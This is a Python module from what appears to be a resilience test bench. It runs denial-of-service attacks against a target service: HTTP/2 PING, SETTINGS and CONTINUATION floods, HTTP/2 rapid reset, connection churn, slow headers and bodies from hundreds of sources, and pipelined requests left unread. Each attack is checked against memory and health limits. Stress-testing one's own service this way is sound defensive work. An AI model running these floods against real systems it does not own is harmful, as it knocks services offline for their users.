"""Clients that send far too much of what costs them little: frames, resets, heads and bodies by the byte."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, suppress

from bench.attack.row import Row
from bench.attack.target import Target

from service_support.frames import CONTINUATION, PING, SETTINGS, FrameClient
from service_support.strangers import connect, is_open, sources

SECONDS = 8.0
RPC = "/zitadel.admin.v1.AdminService/ListSMTPConfigs"
GET = b"GET /healthz HTTP/1.1\r\nhost: a\r\n\r\n"
POST = b"POST /admin/v1/smtp HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n"


def run(target: Target) -> Iterator[Row]:
    """One after the other, each for `SECONDS`."""
    for name, flood in (("PING", PING), ("SETTINGS", SETTINGS), ("CONTINUATION", CONTINUATION)):
        with target.watched(f"HTTP/2 {name} flood", max_rss=200) as watch:
            frames, connections = _again(target, lambda client, flood=flood: _send(client, flood * 1000))  # type: ignore[misc]
            watch.tried = f"{frames * 1000} frames over {connections} connections, {SECONDS:.0f} s"
        yield watch.row()
    with target.watched("HTTP/2 rapid reset", max_rss=200) as watch:
        resets, connections = _again(target, _reset)
        watch.tried = f"{resets} streams opened and reset over {connections} connections, {SECONDS:.0f} s"
    yield watch.row()
    with target.watched("connects without end", max_rss=200) as watch:
        opened = _connects(target.http_address) + _connects(target.grpc_address)
        watch.tried = f"{opened} connections opened and closed at once"
    yield watch.row()
    with target.watched("slow heads", max_rss=200, max_health=100) as watch, ExitStack() as held:
        slow = [held.enter_context(closing(connect(target.http_address, source))) for source in sources(500, net=4)]
        left = _drip(slow, b"GET /healthz HTTP/1.1\r\nhost: a\r\n" + b"x: y\r\n" * 100)
        watch.tried = f"{len(slow)} connections, a byte of a head each half second; {left} left after 14 s"
        watch.check(left == 0, "slow heads end")
    yield watch.row()
    with target.watched("slow bodies", max_rss=200, max_health=100) as watch, ExitStack() as held:
        slow = [
            held.enter_context(closing(connect(target.http_address, source, POST))) for source in sources(500, net=5)
        ]
        left = _drip(slow, b" " * 100)
        watch.tried = f"{len(slow)} requests, a byte of a body each half second; {left} left after 14 s"
    yield watch.row()
    with (
        target.watched("pipelined requests, answers not taken", max_rss=200, max_health=100) as watch,
        ExitStack() as held,
    ):
        greedy = [held.enter_context(closing(connect(target.http_address, source))) for source in sources(200, net=6)]
        for connection in greedy:
            connection.setblocking(False)
            with suppress(OSError):
                connection.send(GET * 5000)
        time.sleep(3)
        watch.tried = f"{len(greedy)} connections, 5,000 requests in one write each, nothing read"
    yield watch.row()


def _again(target: Target, attack: Callable[[FrameClient], int]) -> tuple[int, int]:
    """Attack over connection after connection; return how often, and over how many."""
    count = connections = 0
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        connections += 1
        with suppress(OSError), FrameClient(target.grpc_address, source="127.7.0.1", timeout=2) as client:
            client.open()
            while time.monotonic() < end and not client.terminated:
                count += attack(client)
                client.read_what_is_there(0.001)
    return count, connections


def _send(client: FrameClient, data: bytes) -> int:
    client.socket.sendall(data)
    return 1


def _reset(client: FrameClient) -> int:
    for _ in range(50):
        client.http.reset_stream(client.call(RPC))
        client.flush()
    return 50


def _connects(address: tuple[str, int]) -> int:
    opened = 0
    end = time.monotonic() + SECONDS / 2
    while time.monotonic() < end:
        with suppress(OSError):
            connect(address, "127.8.0.1").close()
            opened += 1
    return opened


def _drip(connections: list[socket.socket], data: bytes) -> int:
    """Send a byte each half second for 14 seconds; return how many connections are left."""
    for number in range(28):
        for connection in connections:
            with suppress(OSError):
                connection.send(data[number : number + 1])
        time.sleep(0.5)
    return sum(map(is_open, connections))
